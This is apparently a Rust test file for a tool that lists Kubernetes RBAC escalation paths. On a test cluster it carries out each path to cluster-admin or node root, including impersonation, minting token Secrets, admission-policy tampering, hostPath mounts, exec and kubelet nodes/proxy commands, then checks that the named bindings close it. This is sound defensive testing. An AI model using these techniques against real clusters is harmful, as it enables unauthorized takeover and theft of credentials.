//! Ways up that `kubestile rbac paths` lists, each gone on a real cluster with pods that run, and closed by the
//! bindings that its cut names. Those of `rbac.rs` need no node: tokens, bindings and certificates.
//!
//! Not gone anywhere: pods that move to a node of one's own, since there is one node; `aws-auth`; operators; what
//! stands between others and what they call; and validating webhooks.

#![allow(
    clippy::unwrap_used,
    clippy::indexing_slicing,
    reason = "a test fails by panicking"
)]

use std::path::PathBuf;

use kubestile_tests::eventually;
use kubestile_tests::rights::{Place, account, user};
use serde_json::{Value, json};

const RBAC: &str = "rbac.authorization.k8s.io";
/// Where a pod finds the token of its service account.
const TOKEN: &str = "/var/run/secrets/kubernetes.io/serviceaccount/token";
/// What only root reads, on the node.
const SECRET: &str = "only the node's root reads this";
const ADMIN: &str = "cluster-admin";
const NODE: &str = "root on a node";

/// Somebody, with credentials of their own, who has a way up.
struct Climber<'p> {
    place: &'p Place,
    name: &'static str,
    kubeconfig: PathBuf,
}

#[test]
fn ways_are_gone_with_pods_that_run_and_closed_by_their_cut() {
    let place = Place::up("rbac-ways", true);
    furnish(&place);
    of_roles(&place);
    of_identities(&place);
    of_secrets(&place);
    of_admission(&place);
    of_pods(&place);
    of_nodes(&place);
}

/// In `shop` is a service account that may do everything, and so is dee; `strict` confines its pods.
fn furnish(place: &Place) {
    for namespace in ["shop", "people", "strict"] {
        place.kubectl(&["create", "namespace", namespace]);
    }
    let label = "pod-security.kubernetes.io/enforce=baseline";
    place.kubectl(&["label", "namespace", "strict", label]);
    place.kubectl(&["create", "serviceaccount", "deployer", "-n", "shop"]);
    let everything = json!([{ "verbs": ["*"], "apiGroups": ["*"], "resources": ["*"] }]);
    place.may("", "deployer", &account("shop", "deployer"), &everything);
    place.may("", "dee", &user("dee"), &everything);
    let target = pod("target", "deployer", "sleep 3600", &json!({}));
    place.kubectl(&[
        "apply",
        "-n",
        "shop",
        "-f",
        place.manifest(&target).to_str().unwrap(),
    ]);
    let secret = place.file("secret");
    std::fs::write(&secret, SECRET).unwrap();
    use std::os::unix::fs::PermissionsExt as _;
    std::fs::set_permissions(&secret, std::fs::Permissions::from_mode(0o600)).unwrap();
}

impl<'p> Climber<'p> {
    /// A service account in a namespace where nothing else is.
    fn new(place: &'p Place, name: &'static str, rights: &[(&str, Value)]) -> Self {
        place.kubectl(&["create", "serviceaccount", name, "-n", "people"]);
        for (number, (namespace, rules)) in (0..).zip(rights) {
            let role = format!("{name}-{number}");
            place.may(namespace, &role, &account("people", name), rules);
        }
        let token = place.kubectl(&["create", "token", name, "-n", "people"]);
        let kubeconfig = place.kubeconfig(name, &json!({ "token": token.trim() }));
        Self {
            place,
            name,
            kubeconfig,
        }
    }

    fn does(&self, args: &[&str]) -> bool {
        self.place.as_person(&self.kubeconfig, args)
    }

    fn creates(&self, namespace: &str, manifest: &Value) -> bool {
        let path = self.place.manifest(manifest);
        self.does(&["create", "-n", namespace, "-f", path.to_str().unwrap()])
    }

    /// The way is listed and leads there; without the bindings of the cut it is neither.
    fn goes(&self, reaches: &str, technique: &str, walk: &dyn Fn(&Self) -> bool) {
        let who = format!("serviceaccount/people/{}", self.name);
        let listed = || self.place.rbac_json(&["paths", &who]);
        let rows = listed();
        assert_eq!(rows[0]["reaches"], reaches, "{rows}");
        assert_eq!(rows[0]["steps"][0]["does"], technique, "{rows}");
        eventually(&format!("{who} to get there"), || walk(self).then_some(()));
        for binding in rows[0]["cut"].as_array().unwrap() {
            let words: Vec<&str> = binding.as_str().unwrap().split([' ', '/']).collect();
            match words[..] {
                [kind, name] => self.place.kubectl(&["delete", kind, name]),
                _ => self
                    .place
                    .kubectl(&["delete", words[0], words[2], "-n", words[1]]),
            };
        }
        eventually("the way to be closed", || (!walk(self)).then_some(()));
        assert_eq!(listed(), json!([]), "{who} has another way");
    }

    /// Whether they read what only administrators do.
    fn is_admin(&self, more: &[&str]) -> bool {
        let mut args = vec!["get", "secrets", "-n", "kube-system"];
        args.extend(more);
        self.does(&args)
    }

    /// Whether they do, once the authorizer has seen what they wrote.
    fn becomes_admin(&self) {
        eventually("the new rules to count", || {
            self.is_admin(&[]).then_some(())
        });
    }
}

/// Whether whoever shows this token reads what only administrators do.
fn token_is_admins(place: &Place, token: &str) -> bool {
    let stronger = place.kubeconfig("stronger", &json!({ "token": token.trim() }));
    place.as_person(&stronger, &["get", "secrets", "-n", "kube-system"])
}

fn rule(verbs: &[&str], group: &str, resources: &[&str], names: &[&str]) -> Value {
    json!({ "verbs": verbs, "apiGroups": [group], "resources": resources, "resourceNames": names })
}

fn of_roles(place: &Place) {
    let any = r#"[{"op":"add","path":"/rules/-","value":{"verbs":["*"],"apiGroups":["*"],"resources":["*"]}}]"#;
    let own = json!([rule(
        &["get", "patch", "escalate"],
        RBAC,
        &["clusterroles"],
        &["eva-0"]
    )]);
    let eva = Climber::new(place, "eva", &[("", own)]);
    eva.goes(ADMIN, "writes any rule into a role of its own", &|eva| {
        let patch = ["patch", "clusterrole", "eva-0", "--type=json", "-p", any];
        let patched = eva.does(&patch);
        if patched {
            eva.becomes_admin();
            let back = r#"[{"op":"remove","path":"/rules/1"}]"#;
            place.kubectl(&["patch", "clusterrole", "eva-0", "--type=json", "-p", back]);
            eventually("the rule to be gone", || (!eva.is_admin(&[])).then_some(()));
        }
        patched
    });

    let writes = || json!([rule(&["create", "escalate"], RBAC, &["clusterroles"], &[])]);
    let ada = Climber::new(place, "ada", &[("", writes())]);
    let who = "--serviceaccount=people:ada";
    let awaited = "--clusterrole=awaited";
    place.kubectl(&["create", "clusterrolebinding", "awaits", awaited, who]);
    ada.goes(ADMIN, "writes any rule into a role of its own", &|ada| {
        writes_role(ada, "awaited", &json!({}))
    });

    let agi = Climber::new(place, "agi", &[("", writes())]);
    let (role, who) = ("--clusterrole=view", "--serviceaccount=people:agi");
    place.kubectl(&["create", "clusterrolebinding", "agi-view", role, who]);
    let technique = "writes any rule into a role that one of its own takes rules from";
    agi.goes(ADMIN, technique, &|agi| {
        let labels = json!({ "rbac.authorization.k8s.io/aggregate-to-view": "true" });
        writes_role(agi, "more-to-view", &labels)
    });
}

/// Creates a role that may do everything; whether that makes them an administrator.
fn writes_role(who: &Climber<'_>, name: &str, labels: &Value) -> bool {
    let created = who.creates(
        "",
        &json!({
            "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
            "metadata": { "name": name, "labels": labels },
            "rules": [{ "verbs": ["*"], "apiGroups": ["*"], "resources": ["*"] }],
        }),
    );
    if created {
        who.becomes_admin();
        who.place.kubectl(&["delete", "clusterrole", name]);
        eventually("the rules to be gone", || {
            (!who.is_admin(&[])).then_some(())
        });
    }
    created
}

fn of_identities(place: &Place) {
    let acts = |resource: &str, names: &[&str]| rule(&["impersonate"], "", &[resource], names);
    let technique = "impersonates";
    let ivy = Climber::new(place, "ivy", &[("", json!([acts("users", &["dee"])]))]);
    ivy.goes(ADMIN, technique, &|ivy| ivy.is_admin(&["--as=dee"]));

    let masters = json!([
        acts("users", &["nobody"]),
        acts("groups", &["system:masters"])
    ]);
    let gus = Climber::new(place, "gus", &[("", masters)]);
    gus.goes(ADMIN, technique, &|gus| {
        gus.is_admin(&["--as=nobody", "--as-group=system:masters"])
    });

    let accounts = json!([acts("serviceaccounts", &[])]);
    let sam = Climber::new(place, "sam", &[("shop", accounts)]);
    sam.goes(ADMIN, technique, &|sam| {
        sam.is_admin(&["--as=system:serviceaccount:shop:deployer"])
    });
}

fn of_secrets(place: &Place) {
    let token = |name: &str| {
        json!({ "apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
            "metadata": { "name": name, "annotations": { "kubernetes.io/service-account.name": "deployer" } } })
    };
    let reads = |who: &Climber<'_>, name: &str| {
        let path = [
            "get",
            "secret",
            name,
            "-n",
            "shop",
            "-o",
            "jsonpath={.data.token}",
        ];
        let encoded = place.says(&who.kubeconfig, &path)?;
        use base64::Engine as _;
        let token = base64::engine::general_purpose::STANDARD
            .decode(encoded)
            .unwrap();
        (!token.is_empty()).then(|| String::from_utf8(token).unwrap())
    };
    let makes = json!([rule(&["create", "get"], "", &["secrets"], &[])]);
    let sue = Climber::new(place, "sue", &[("shop", makes)]);
    sue.goes(ADMIN, "makes a token Secret and reads it", &|sue| {
        let gone = [
            "delete",
            "secret",
            "minted",
            "-n",
            "shop",
            "--ignore-not-found",
        ];
        place.kubectl(&gone);
        sue.creates("shop", &token("minted")) && {
            let token = eventually("the token", || reads(sue, "minted"));
            let is_admin = token_is_admins(place, &token);
            place.kubectl(&gone);
            is_admin
        }
    });

    let old = place.manifest(&token("old"));
    place.kubectl(&["create", "-n", "shop", "-f", old.to_str().unwrap()]);
    let rex = Climber::new(
        place,
        "rex",
        &[("shop", json!([rule(&["get"], "", &["secrets"], &[])]))],
    );
    rex.goes(ADMIN, "reads Secrets", &|rex| {
        reads(rex, "old").is_some_and(|token| token_is_admins(place, &token))
    });

    // What whoever joins may do is the cluster's own affair: here, everything.
    let (role, who) = (
        "--clusterrole=cluster-admin",
        "--group=system:bootstrappers",
    );
    place.kubectl(&["create", "clusterrolebinding", "joining", role, who]);
    let creates = json!([rule(&["create"], "", &["secrets"], &[])]);
    let bob = Climber::new(place, "bob", &[("kube-system", creates)]);
    bob.goes(ADMIN, "makes a bootstrap token", &|bob| {
        let name = "bootstrap-token-abcdef";
        place.kubectl(&[
            "delete",
            "secret",
            name,
            "-n",
            "kube-system",
            "--ignore-not-found",
        ]);
        let made = bob.creates(
            "kube-system",
            &json!({
                "apiVersion": "v1", "kind": "Secret", "type": "bootstrap.kubernetes.io/token",
                "metadata": { "name": name }, "stringData": { "token-id": "abcdef",
                    "token-secret": "0123456789abcdef", "usage-bootstrap-authentication": "true" },
            }),
        );
        made && eventually("the token to be known", || {
            token_is_admins(place, "abcdef.0123456789abcdef").then_some(true)
        })
    });
    place.kubectl(&["delete", "clusterrolebinding", "joining"]);
}

/// A policy adds a subject to a binding that an administrator writes.
fn of_admission(place: &Place) {
    let group = "admissionregistration.k8s.io";
    let kinds = [
        "mutatingadmissionpolicies",
        "mutatingadmissionpolicybindings",
    ];
    let max = Climber::new(
        place,
        "max",
        &[("", json!([rule(&["create"], group, &kinds, &[])]))],
    );
    max.goes(ADMIN, "changes or sees what others write", &|max| {
        let version = format!("{group}/v1");
        let adds = "[JSONPatch{op: 'add', path: '/subjects/-', value: \
                    {'kind': 'ServiceAccount', 'namespace': 'people', 'name': 'max'}}]";
        let created = max.creates(
            "",
            &json!({ "apiVersion": "v1", "kind": "List", "items": [
                { "apiVersion": version, "kind": "MutatingAdmissionPolicy", "metadata": { "name": "adds" }, "spec": {
                    "matchConstraints": { "resourceRules": [{ "apiGroups": [RBAC], "apiVersions": ["*"],
                        "operations": ["CREATE"], "resources": ["clusterrolebindings"] }] },
                    "reinvocationPolicy": "Never", "failurePolicy": "Fail",
                    "mutations": [{ "patchType": "JSONPatch", "jsonPatch": { "expression": adds } }] } },
                { "apiVersion": version, "kind": "MutatingAdmissionPolicyBinding", "metadata": { "name": "adds" },
                    "spec": { "policyName": "adds" } },
            ]}),
        );
        created && {
            eventually("somebody else's binding to be changed", || {
                let (name, role) = ("innocent", "--clusterrole=cluster-admin");
                place.kubectl(&["delete", "clusterrolebinding", name, "--ignore-not-found"]);
                place.kubectl(&["create", "clusterrolebinding", name, role, "--user=zoe"]);
                let subjects = ["get", "clusterrolebinding", name, "-o", "jsonpath={.subjects[*].name}"];
                place.kubectl(&subjects).contains("max").then_some(())
            });
            max.becomes_admin();
            for what in ["mutatingadmissionpolicybinding/adds", "mutatingadmissionpolicy/adds",
                "clusterrolebinding/innocent"]
            {
                place.kubectl(&["delete", what]);
            }
            true
        }
    });
}

/// A pod with one container; `more` is joined to its specification.
fn pod(name: &str, service_account: &str, script: &str, more: &Value) -> Value {
    let mut spec = json!({
        "serviceAccountName": service_account, "restartPolicy": "Never", "terminationGracePeriodSeconds": 0,
        "containers": [{ "name": "c", "image": "busybox:1", "command": ["sh", "-c", script] }],
    });
    for (key, value) in more.as_object().unwrap() {
        match key.as_str() {
            "container" => {
                let fields = value.as_object().unwrap().clone();
                spec["containers"][0]
                    .as_object_mut()
                    .unwrap()
                    .extend(fields);
            }
            _ => spec[key] = value.clone(),
        }
    }
    json!({ "apiVersion": "v1", "kind": "Pod", "metadata": { "name": name }, "spec": spec })
}

/// What a pod that they make prints; none if they may not make it. It stays: its token ends with it.
fn runs(who: &Climber<'_>, namespace: &str, pod: &Value) -> Option<String> {
    let name = pod["metadata"]["name"].as_str().unwrap();
    gone(who.place, namespace, "pod", name);
    if !who.creates(namespace, pod) {
        return None;
    }
    eventually("the pod's words", || {
        let logs = ["logs", name, "-n", namespace];
        let printed = who.place.says(&who.kubeconfig, &logs);
        printed.filter(|words| !words.is_empty())
    })
    .into()
}

/// Deletes what may be there.
fn gone(place: &Place, namespace: &str, kind: &str, name: &str) {
    let args = ["delete", kind, name, "-n", namespace];
    place.kubectl(&[&args[..], &["--ignore-not-found", "--now"]].concat());
}

fn of_pods(place: &Place) {
    let runs_pods = || {
        json!([
            rule(&["create"], "", &["pods"], &[]),
            rule(&["get"], "", &["pods", "pods/log"], &[])
        ])
    };
    let wil = Climber::new(place, "wil", &[("shop", runs_pods())]);
    let technique = "runs a pod as any service account of the namespace";
    wil.goes(ADMIN, technique, &|wil| {
        let stronger = pod("stronger", "deployer", &format!("cat {TOKEN}"), &json!({}));
        runs(wil, "shop", &stronger).is_some_and(|token| token_is_admins(place, &token))
    });

    let exec = json!([
        rule(&["get"], "", &["pods"], &[]),
        rule(&["get", "create"], "", &["pods/exec"], &["target"])
    ]);
    let xia = Climber::new(place, "xia", &[("shop", exec)]);
    xia.goes(ADMIN, "runs commands in running pods", &|xia| {
        let token = place.says(
            &xia.kubeconfig,
            &["exec", "target", "-n", "shop", "--", "cat", TOKEN],
        );
        token.is_some_and(|token| token_is_admins(place, &token))
    });
}

fn of_nodes(place: &Place) {
    let dir = place
        .file("")
        .to_str()
        .unwrap()
        .trim_end_matches('/')
        .to_owned();
    let mounted = json!({ "volumeMounts": [{ "name": "disk", "mountPath": "/disk" }] });
    let by_path = |name: &str| {
        let disk = json!({ "name": "disk", "hostPath": { "path": dir } });
        let more = json!({ "container": mounted, "volumes": [disk] });
        pod(name, "default", "cat /disk/secret", &more)
    };
    let rights = || {
        json!([
            rule(&["create"], "", &["pods"], &[]),
            rule(&["get"], "", &["pods", "pods/log"], &[])
        ])
    };
    place.kubectl(&["create", "namespace", "open"]);
    let pam = Climber::new(place, "pam", &[("open", rights())]);
    pam.goes(NODE, "runs a privileged pod", &|pam| {
        runs(pam, "open", &by_path("on-disk")).is_some_and(|printed| printed == SECRET)
    });

    let changes = rule(&["get", "patch"], "", &["namespaces"], &["strict"]);
    let ned = Climber::new(
        place,
        "ned",
        &[("strict", rights()), ("strict", json!([changes]))],
    );
    ned.goes(NODE, "lifts the limits on pods of the namespace", &|ned| {
        assert!(
            !ned.creates("strict", &by_path("on-disk")),
            "nothing confines pods"
        );
        let enforce = |level: &str| format!("pod-security.kubernetes.io/enforce={level}");
        let (free, back) = (enforce("privileged"), enforce("baseline"));
        let lifted = ned.does(&["label", "namespace", "strict", &free, "--overwrite"]);
        let read = lifted && runs(ned, "strict", &by_path("on-disk")).is_some_and(|p| p == SECRET);
        place.kubectl(&["label", "namespace", "strict", &back, "--overwrite"]);
        read
    });

    let volumes = json!([rule(&["create"], "", &["persistentvolumes"], &[])]);
    let claims = json!([rule(&["create"], "", &["persistentvolumeclaims"], &[])]);
    let hal = Climber::new(
        place,
        "hal",
        &[("", volumes), ("strict", claims), ("strict", rights())],
    );
    hal.goes(
        NODE,
        "mounts the node's disk by a PersistentVolume",
        &|hal| by_volume(hal, &dir, &mounted).is_some_and(|printed| printed == SECRET),
    );
    by_kubelet(place);
}

fn by_volume(hal: &Climber<'_>, dir: &str, mounted: &Value) -> Option<String> {
    let (modes, size) = (json!(["ReadWriteOnce"]), json!({ "storage": "1Mi" }));
    let volume = json!({ "apiVersion": "v1", "kind": "PersistentVolume", "metadata": { "name": "disk" }, "spec": {
        "capacity": size, "accessModes": modes, "storageClassName": "", "hostPath": { "path": dir } } });
    let claim = json!({ "apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": { "name": "disk" }, "spec": {
        "resources": { "requests": size }, "accessModes": modes, "storageClassName": "", "volumeName": "disk" } });
    // The claim stays while a pod has it, and the volume while it is claimed.
    for (kind, name) in [("pod", "on-volume"), ("pvc", "disk"), ("pv", "disk")] {
        gone(hal.place, "strict", kind, name);
    }
    let made = hal.creates("", &volume) && hal.creates("strict", &claim);
    made.then(|| {
        let disk = json!({ "name": "disk", "persistentVolumeClaim": { "claimName": "disk" } });
        let more = json!({ "container": mounted, "volumes": [disk] });
        let pod = pod("on-volume", "default", "cat /disk/secret", &more);
        runs(hal, "strict", &pod)
    })
    .flatten()
}

/// Through the API server it would be the same request, but that does not proxy to the loopback address of this node.
/// The kubelet remembers for minutes what it was told of somebody's rights: that they are gone, the API server says.
fn by_kubelet(place: &Place) {
    let path = "jsonpath={.items[0].status.daemonEndpoints.kubeletEndpoint.Port}";
    let port = place.kubectl(&["get", "nodes", "-o", path]);
    let server = format!("--server=https://127.0.0.1:{port}");
    let proxies = json!([rule(&["create"], "", &["nodes/proxy"], &[])]);
    let kay = Climber::new(place, "kay", &[("", proxies)]);
    kay.goes(ADMIN, "commands the kubelet through nodes/proxy", &|kay| {
        let run = format!("/run/shop/target/c?cmd=cat%20{}", TOKEN.replace('/', "%2F"));
        let run = ["create", "--raw", &run, "-f", "/dev/null", &server];
        let may = [
            "auth",
            "can-i",
            "-q",
            "create",
            "nodes",
            "--subresource=proxy",
        ];
        let token = kay.does(&may).then(|| place.says(&kay.kubeconfig, &run));
        token
            .flatten()
            .is_some_and(|token| token_is_admins(place, &token))
    });
}
